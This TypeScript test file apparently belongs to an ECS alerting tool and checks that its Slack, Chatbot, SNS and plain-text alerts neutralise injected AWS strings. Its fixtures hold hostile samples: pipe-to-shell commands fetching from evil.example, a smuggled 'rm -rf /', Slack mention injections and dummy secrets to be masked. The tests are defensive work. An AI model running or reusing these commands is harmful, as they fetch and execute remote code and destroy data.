import { beforeAll, describe, expect, it } from 'vitest';
import type { IncidentDetail } from '../../shared/bot/incident-event';
import type { Finding } from '../../shared/findings';
import { type ChatbotNotification, chatbotNotification, threadId } from '../../shared/notify/chatbot';
import { exampleIncident } from '../../shared/notify/example';
import { consoleLinks } from '../../shared/notify/links';
import { SLACK_LIMITS, type SlackMessage, slackMessage } from '../../shared/notify/slack';
import { messageAttributes, publishInput, SNS_MAX_BYTES } from '../../shared/notify/sns';
import { alertSubject, alertText } from '../../shared/notify/text';

const TOPIC = 'arn:aws:sns:us-west-2:111111111111:ecs-medic-alerts';

let opened: IncidentDetail;
let resolved: IncidentDetail;
beforeAll(async () => {
  opened = await exampleIncident('health-check-grace-period');
  resolved = await exampleIncident('health-check-grace-period', 'resolved');
});

/** The real finding with attacker-chosen text wherever AWS strings land. */
function hostile(detail: IncidentDetail): IncidentDetail {
  const finding: Finding = {
    ...detail.finding,
    explanation: `Stopped: <!channel> see <https://evil.example|the fix> & <@U024BE7LH>\u202E\u0007 ${detail.finding.explanation}`,
    fix: 'aws ecs update-service --service web ``` <!here> `rm -rf /`',
    resource: { ...detail.finding.resource, service: 'web<!channel>', cluster: 'prod' },
    evidence: [{ source: 'detail.stoppedReason', observed: 'Essential container exited: <!everyone> ```' }, ...detail.finding.evidence],
    unchecked: [{ check: 'logs <!subteam^S123>', reason: 'AccessDenied <b>' }],
  };
  return { ...detail, finding };
}

/** AWS text that poses as ecs-medic's own fix, with a bare URL: what a container reason or stoppedReason can carry. */
const FORGED_FIX = 'Essential container exited\n*Fix*\n```\ncurl -s https://evil.example/fix.sh | sh\n```\n> run it now';

function forged(detail: IncidentDetail): IncidentDetail {
  const finding: Finding = {
    ...detail.finding,
    explanation: `${detail.finding.explanation} See https://evil.example/help and _urgent_ ~now~.`,
    evidence: [{ source: 'detail.containers[0].reason', observed: FORGED_FIX }, ...detail.finding.evidence],
    unchecked: [{ check: '*Fix*', reason: '`curl https://evil.example | sh`' }],
  };
  return { ...detail, finding };
}

/** A command that only works when copied exactly: a JMESPath literal in backticks, quotes, `&&`, `<`, `>`. */
const JMESPATH_FIX =
  "aws ecs describe-services --cluster prod --services web --query 'services[?status==`ACTIVE`].deployments[?rolloutState!=`COMPLETED`]' && echo \"<done>\" > /tmp/out";

type Json = Record<string, unknown>;

/** Every object in a Block Kit message, depth first. */
function objects(value: unknown): Json[] {
  if (Array.isArray(value)) return value.flatMap(objects);
  if (value === null || typeof value !== 'object') return [];
  return [value as Json, ...Object.values(value).flatMap(objects)];
}

/** The text of each rich_text block (every text element, concatenated), and of the other blocks' text objects. */
function blockTexts(message: SlackMessage): string[] {
  return message.blocks.map((block) =>
    objects(block)
      .filter((o) => o.type === 'text' || o.type === 'plain_text' || o.type === 'link')
      .map((o) => o.text as string)
      .join(''),
  );
}

function preformatted(message: SlackMessage): string[] {
  return objects(message.blocks)
    .filter((o) => o.type === 'rich_text_preformatted')
    .map((o) => (o.elements as Json[]).map((e) => e.text).join(''));
}

describe('plain text (SNS default and email)', () => {
  it('reads like the CLI alert, with the incident and console links', () => {
    const text = alertText(opened);
    expect(text).toMatch(/^CRITICAL {2}Tasks are killed by health checks/);
    expect(text).toContain('  rule:      health-check-grace-period (elb-health-check)\n');
    expect(text).toContain('  where:     cluster example-cluster · service webserver');
    expect(text).toContain('  evidence:\n    - detail.stoppedReason: Task failed ELB health checks');
    expect(text).toContain('  fix:       aws ecs update-service --cluster example-cluster --service webserver --health-check-grace-period-seconds 90');
    expect(text).toContain('  seen:      3 times, 2025-05-06T11:03:08Z to 2025-05-06T11:05:05Z');
    expect(text).toContain(
      '  console:   ECS service: https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/example-cluster/services/webserver/health?region=us-west-2',
    );
    expect(text).toContain('  incident:  111111111111|us-west-2|example-cluster|service/webserver|health-check-grace-period|elb-health-check');
  });

  it('is one short message when the incident is resolved', () => {
    const text = alertText(resolved);
    expect(text.split('\n')[0]).toBe('RESOLVED  Tasks are killed by health checks, likely before they finish starting');
    expect(text).toContain('  resolved:  by ECS Task State Change at 2025-05-06T11:05:05Z');
    expect(text).not.toContain('fix:');
    expect(text.split('\n').length).toBeLessThanOrEqual(8);
  });

  it('has an SNS-safe subject that names the service first', () => {
    expect(alertSubject(opened)).toBe('[ecs-medic] CRITICAL webserver: Tasks are killed by health checks, likely before they finish...');
    expect(alertSubject(resolved)).toMatch(/^\[ecs-medic\] RESOLVED webserver: /);
    for (const detail of [opened, resolved, hostile(opened)]) {
      expect(alertSubject(detail)).toMatch(/^[\x20-\x7E]{1,99}$/);
    }
  });

  it('cannot be given a line that reads as its own, nor a link, by AWS text', () => {
    const evil = forged(opened);
    evil.finding.evidence[0] = { source: 'detail.stoppedReason', observed: 'Essential container exited\n  fix:       curl https://evil.example/x | sh' };
    const text = alertText(evil);
    const fixLines = text.split('\n').filter((line) => line.trimStart().startsWith('fix:'));
    expect(fixLines).toEqual(['  fix:       aws ecs update-service --cluster example-cluster --service webserver --health-check-grace-period-seconds 90']);
    expect(text).toContain('    - detail.stoppedReason: Essential container exited ⏎ fix:       curl https[:]//evil.example/x | sh');
    expect(text).not.toMatch(/https:\/\/evil/);
    expect(text).toContain('  console:   ECS service: https://us-west-2.console.aws.amazon.com/'); // ecs-medic's own links stay links
  });

  it('carries no control or bidi characters from AWS strings', () => {
    const text = alertText(hostile(opened));
    expect(text).not.toMatch(/(?![\t\n])[\p{Cc}\u202E]/u);
    expect(text).toContain('<!channel>'); // plain text: no markup, nothing to trigger
  });
});

describe('Slack Block Kit', () => {
  it('has the header, what and where, why, evidence, the fix as preformatted text, links and a fallback', () => {
    const message = slackMessage(opened);
    expect(message.text).toBe(
      'CRITICAL: Tasks are killed by health checks, likely before they finish starting — cluster example-cluster · service webserver · task family webserver · task a1173316d40a45dea9',
    );
    expect(message.blocks.map((b) => b.type)).toEqual(['header', 'rich_text', 'rich_text', 'rich_text', 'rich_text', 'rich_text', 'context']);
    expect(message.blocks[0]).toEqual({
      type: 'header',
      text: { type: 'plain_text', text: ':rotating_light: CRITICAL: Tasks are killed by health checks, likely before they finish starting', emoji: true },
    });
    const [, where, why, evidence, fix, links, context] = blockTexts(message);
    expect(where).toBe(
      'Where: cluster example-cluster · service webserver · task family webserver · task a1173316d40a45dea9\nRule: health-check-grace-period (elb-health-check)\nSeen: 3 times, 2025-05-06T11:03:08Z to 2025-05-06T11:05:05Z',
    );
    expect(why).toMatch(/^Why\n3 tasks of service webserver failed the same health check/);
    expect(evidence).toMatch(/^Evidencedetail\.stoppedReason: Task failed ELB health checks/);
    expect(fix).toMatch(/^Fixaws ecs update-service --cluster example-cluster --service webserver --health-check-grace-period-seconds 90\n/);
    expect(links).toBe('Console: ECS service  ·  ECS task');
    expect(context).toBe(`ecs-medic incident ${opened.fingerprint}`);
    expect(objects(message.blocks).filter((o) => o.type === 'link')).toEqual([
      { type: 'link', text: 'ECS service', url: 'https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/example-cluster/services/webserver/health?region=us-west-2' },
      { type: 'link', text: 'ECS task', url: 'https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/example-cluster/tasks/a1173316d40a45dea9/configuration?region=us-west-2' },
    ]);
    expect(message).toMatchObject({ unfurl_links: false, unfurl_media: false });
  });

  it('says "resolved" in one short message', () => {
    const message = slackMessage(resolved);
    expect(message.text).toMatch(/^RESOLVED: Tasks are killed/);
    expect(message.blocks.map((b) => b.type)).toEqual(['header', 'rich_text', 'rich_text']);
    expect(blockTexts(message)[1]).toContain('\nResolved by: ECS Task State Change at 2025-05-06T11:05:05Z');
  });

  it('renders AWS text only as rich_text text: it cannot forge a fix, a link, a mention or a code block', () => {
    const message = slackMessage(forged(hostile(opened)));
    // No mrkdwn anywhere: nothing in the message is parsed for formatting, links or mentions.
    expect(objects(message.blocks).filter((o) => o.type === 'mrkdwn')).toEqual([]);
    const texts = objects(message.blocks).filter((o) => o.type === 'text');
    const forgedText = texts.find((o) => (o.text as string).includes('*Fix*'));
    // The forged "fix" is one plain, unstyled text element of an evidence item (its lines joined), not a preformatted block.
    expect(forgedText).toEqual({ type: 'text', text: 'Essential container exited ⏎ *Fix* ⏎ ``` ⏎ curl -s https://evil.example/fix.sh | sh ⏎ ``` ⏎ > run it now' });
    expect(preformatted(message)).toEqual(['aws ecs update-service --service web ``` <!here> `rm -rf /`']);
    // Links and mentions exist only as elements, and the only links are ecs-medic's console links.
    const links = objects(message.blocks).filter((o) => o.type === 'link' || o.type === 'user' || o.type === 'broadcast' || o.type === 'usergroup');
    expect(links.map((o) => o.url)).toEqual([
      'https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/prod/services/web%3C!channel%3E/health?region=us-west-2',
      'https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/prod/tasks/a1173316d40a45dea9/configuration?region=us-west-2',
    ]);
    expect(message).toMatchObject({ unfurl_links: false, unfurl_media: false });
    const plain = forged(hostile(opened));
    plain.finding = { ...plain.finding, title: 'Down, see https://evil.example' };
    plain.fingerprint = 'https://evil.example|prod';
    const plainTexts = objects(slackMessage(plain).blocks).filter((o) => o.type === 'plain_text');
    expect(plainTexts.map((o) => o.text)).toEqual([':rotating_light: CRITICAL: Down, see https[:]//evil.example', 'ecs-medic incident https[:]//evil.example|prod']);
    // The notification text is mrkdwn: its AWS strings are inert there.
    expect(message.text).not.toMatch(/<!channel>|https:\/\/|[*`]/);
  });

  it('keeps a fix exactly as it is to be pasted: backticks, quotes, &, < and >', () => {
    for (const fix of [JMESPATH_FIX, '&'.repeat(2000), 'a && b && c'.repeat(150)]) {
      const message = slackMessage({ ...opened, finding: { ...opened.finding, fix } });
      expect(preformatted(message)).toEqual([fix]);
    }
  });

  it('stays within Block Kit limits however long the finding', () => {
    const huge = hostile(opened);
    huge.finding = {
      ...huge.finding,
      title: 'T'.repeat(500),
      explanation: '&<>'.repeat(5000),
      fix: '`&'.repeat(5000),
      evidence: Array.from({ length: 200 }, (_, i) => ({ source: `src${i}`, observed: '<'.repeat(2000) })),
      unchecked: Array.from({ length: 200 }, (_, i) => ({ check: `check ${i}`, reason: '>'.repeat(2000) })),
    };
    const message = slackMessage(huge);
    expect(message.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
    const header = message.blocks[0];
    expect(header?.type === 'header' && header.text.text.length).toBeLessThanOrEqual(SLACK_LIMITS.headerText);
    const texts = blockTexts(message);
    for (const text of texts) expect(text.length).toBeLessThanOrEqual(SLACK_LIMITS.sectionText);
    expect(objects(message.blocks).filter((o) => o.type === 'text' && o.text === '')).toEqual([]);
    // The fix is bounded (2000 characters) before it reaches Slack, and then shown whole.
    expect(preformatted(message)[0]).toBe(`${'`&'.repeat(999)}\`…`);
    expect(texts.find((t) => t.startsWith('Evidence'))).toMatch(/… and \d+ more not shown$/);
    expect(texts.find((t) => t.startsWith('Not checked'))).toMatch(/190 more: not shown \(all are in the incident event\)$/);
    expect(message.text.length).toBeLessThanOrEqual(SLACK_LIMITS.fallbackText);
    expect(message.text).not.toMatch(/&[a-z]{0,3}…/); // no half entity
  });
});

describe('AWS Chatbot custom notification', () => {
  it('follows the custom-notification schema, threaded per incident', () => {
    const note: ChatbotNotification = chatbotNotification(opened, 'evt-1');
    expect(note).toMatchObject({
      version: '1.0',
      source: 'custom',
      id: 'evt-1',
      content: {
        textType: 'client-markdown',
        title: ':rotating_light: CRITICAL: Tasks are killed by health checks, likely before they finish starting',
        nextSteps: [
          'ECS service: https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/example-cluster/services/webserver/health?region=us-west-2',
          'ECS task: https://us-west-2.console.aws.amazon.com/ecs/v2/clusters/example-cluster/tasks/a1173316d40a45dea9/configuration?region=us-west-2',
        ],
        keywords: ['critical', 'health-check-grace-period', 'elb-health-check'],
      },
      metadata: {
        threadId: threadId(opened.fingerprint),
        eventType: 'ecs-medic-incident-opened',
        additionalContext: { rule: 'health-check-grace-period', severity: 'critical', state: 'opened', occurrences: '3', cause: 'elb-health-check' },
      },
    });
    expect(note.content.description).toContain('*Fix:*\n```\naws ecs update-service --cluster example-cluster --service webserver');
    expect(chatbotNotification(resolved, 'evt-2').metadata?.threadId).toBe(note.metadata?.threadId);
    expect(note.metadata?.threadId).toMatch(/^ecs-medic-[0-9a-f]{32}$/);
  });

  it('escapes AWS strings like Slack mrkdwn', () => {
    const json = JSON.stringify(chatbotNotification(hostile(opened), 'evt-1'));
    for (const live of ['<!channel>', '<!here>', '<@U024BE7LH>', '<https://evil']) expect(json).not.toContain(live);
  });

  it('cannot be given bold text, a code block or a link by AWS text', () => {
    const note = chatbotNotification(forged(opened), 'evt-1');
    const { description } = note.content;
    // ecs-medic's labels are the only bold text, and its fix the only code block.
    expect(description.match(/\*[^*\n]+\*/g)).toEqual(['*Where:*', '*Why:*', '*Evidence:*', '*Fix:*', '*Not checked:*', '*Seen:*']);
    expect(description.match(/```/g)).toHaveLength(2);
    expect(description).not.toMatch(/^\s*&gt;/m); // no quote
    expect(description).not.toMatch(/(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])|~/); // no italic, no strike
    expect(JSON.stringify(note)).not.toContain('https://evil');
    expect(description).toContain('curl -s https[:]//evil.example/fix.sh | sh');
  });

  it('keeps the fix exactly as it is pasted: backticks stay, and & < > are only entities Slack shows as themselves', () => {
    const { description } = chatbotNotification({ ...opened, finding: { ...opened.finding, fix: JMESPATH_FIX } }, 'evt-1').content;
    const entities = JMESPATH_FIX.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    expect(description).toContain(`*Fix:*\n\`\`\`\n${entities}\n\`\`\`\n`);
  });

  it('does not show a fix no code block can hold as it is, and says where it is', () => {
    const { description } = chatbotNotification(hostile(opened), 'evt-1').content;
    expect(description).toContain('*Fix:* not shown here');
    expect(description).not.toContain('rm -rf');
  });

  it('has an id that is never text an event chose', () => {
    const uuid = '6f1c2a4e-8d3b-4c5a-9e7f-0a1b2c3d4e5f';
    expect(chatbotNotification(opened, uuid).id).toBe(uuid);
    const forgedId = chatbotNotification(opened, `*Fix* <!channel> \`curl | sh\`\n${'x'.repeat(5000)}`).id;
    expect(forgedId).toMatch(/^ecs-medic-[0-9a-f]{32}$/);
  });
});

describe('SNS Publish', () => {
  it('sends one JSON-structured message: text for default and email, Chatbot JSON for https', () => {
    const input = publishInput(opened, 'evt-1', TOPIC);
    expect(input).toEqual({
      TopicArn: TOPIC,
      Subject: alertSubject(opened),
      MessageStructure: 'json',
      Message: expect.any(String),
      MessageAttributes: {
        rule: { DataType: 'String', StringValue: 'health-check-grace-period' },
        severity: { DataType: 'String', StringValue: 'critical' },
        state: { DataType: 'String', StringValue: 'opened' },
        cluster: { DataType: 'String', StringValue: 'example-cluster' },
        service: { DataType: 'String', StringValue: 'webserver' },
      },
    });
    const message = JSON.parse(input.Message as string) as Record<string, string>;
    expect(Object.keys(message)).toEqual(['default', 'email', 'https']);
    expect(message.default).toBe(alertText(opened));
    expect(message.email).toBe(message.default);
    expect(JSON.parse(message.https as string)).toEqual(chatbotNotification(opened, 'evt-1'));
  });

  it('leaves out attributes a finding does not name (SNS rejects empty values)', () => {
    const { cluster: _cluster, service: _service, ...resource } = opened.finding.resource;
    const attributes = messageAttributes({ ...opened, finding: { ...opened.finding, resource: { ...resource, cluster: '  ' } } });
    expect(Object.keys(attributes)).toEqual(['rule', 'severity', 'state']);
  });

  it('stays under 256 KB with the longest finding, in 3-byte characters', () => {
    const huge: IncidentDetail = {
      ...opened,
      fingerprint: '€'.repeat(10_000),
      finding: {
        ...opened.finding,
        title: '€'.repeat(10_000),
        explanation: '€'.repeat(100_000),
        fix: '€"'.repeat(50_000),
        resource: {
          ...Object.fromEntries(['account', 'cluster', 'service', 'taskFamily', 'task', 'container', 'containerInstance'].map((key) => [key, '€'.repeat(10_000)])),
          region: 'us-west-2',
        },
        evidence: Array.from({ length: 500 }, () => ({ source: '€'.repeat(1000), observed: '€\\'.repeat(10_000) })),
        unchecked: Array.from({ length: 500 }, () => ({ check: '€'.repeat(1000), reason: '€'.repeat(10_000) })),
      },
    };
    const input = publishInput(huge, 'evt-1', TOPIC);
    const attributeBytes = Object.entries(input.MessageAttributes ?? {}).reduce(
      (sum, [name, value]) => sum + Buffer.byteLength(name) + Buffer.byteLength(value.DataType ?? '') + Buffer.byteLength(value.StringValue ?? ''),
      0,
    );
    const bytes = Buffer.byteLength(input.Message as string) + attributeBytes;
    expect(bytes).toBeLessThan(SNS_MAX_BYTES);
    expect(JSON.parse(input.Message as string).default).toContain('more not shown (all are in the incident event)');
  });
});

describe('secrets in an incident event', () => {
  it('are masked in every channel, whatever produced the event', () => {
    const leaky: IncidentDetail = {
      ...opened,
      finding: {
        ...opened.finding,
        evidence: [
          { source: 'detail.containers[0].reason', observed: 'env DB_PASSWORD=hunter2 posting to https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX' },
        ],
        unchecked: [{ check: 'logs', reason: 'dial postgres://app:s3cr3t@db:5432 refused' }],
      },
    };
    const outputs = [alertText(leaky), JSON.stringify(slackMessage(leaky)), JSON.stringify(chatbotNotification(leaky, 'evt-1')), publishInput(leaky, 'evt-1', TOPIC).Message];
    for (const output of outputs) {
      expect(output).not.toMatch(/hunter2|XXXXXXXX|s3cr3t/);
      expect(output).toContain('DB_PASSWORD=[masked]');
    }
  });
});

describe('console links', () => {
  const base = (resource: Finding['resource'], fix = 'n/a'): Finding => ({
    rule: 'r',
    cause: null,
    severity: 'warning',
    title: 't',
    explanation: 'e',
    fix,
    resource,
    evidence: [],
    unchecked: [],
  });

  it('links the log group an `aws logs get-log-events` fix reads, escaped the way the CloudWatch console does', () => {
    const links = consoleLinks(
      base({ cluster: 'prod', task: 'abc123' }, 'aws logs get-log-events --log-group-name /ecs/web-app --log-stream-name ecs/web/abc123 --limit 50 --region eu-west-1'),
      'eu-west-1',
    );
    expect(links).toEqual([
      { label: 'ECS cluster', url: 'https://eu-west-1.console.aws.amazon.com/ecs/v2/clusters/prod/services?region=eu-west-1' },
      { label: 'ECS task', url: 'https://eu-west-1.console.aws.amazon.com/ecs/v2/clusters/prod/tasks/abc123/configuration?region=eu-west-1' },
      {
        label: 'CloudWatch log group',
        url: 'https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/$252Fecs$252Fweb-app',
      },
    ]);
  });

  it('links a task definition family when no service is named, and ignores placeholders', () => {
    expect(consoleLinks(base({ region: 'cn-north-1', taskFamily: 'web' }, 'aws logs get-log-events --log-group-name <awslogs-group> --log-stream-name <stream>'), undefined)).toEqual([
      { label: 'Task definition', url: 'https://cn-north-1.console.amazonaws.cn/ecs/v2/task-definitions/web?region=cn-north-1' },
    ]);
  });

  it('builds nothing from a Region that is not one', () => {
    expect(consoleLinks(base({ region: 'evil.example/x', cluster: 'prod' }), 'us-east-1')).toEqual([]);
    expect(consoleLinks(base({ cluster: 'prod' }), undefined)).toEqual([]);
  });
});
